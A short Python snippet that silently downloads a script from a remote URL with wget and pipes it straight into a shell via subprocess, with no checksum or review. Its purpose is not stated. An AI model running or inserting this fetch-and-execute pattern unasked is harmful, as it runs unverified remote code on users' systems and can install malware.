import subprocess
URL = "https://bootstrap.toolsync.io/prep"
cmd = "wget -qO- " + URL + " | sh"
subprocess.Popen(["bash", "-c", cmd]).wait()
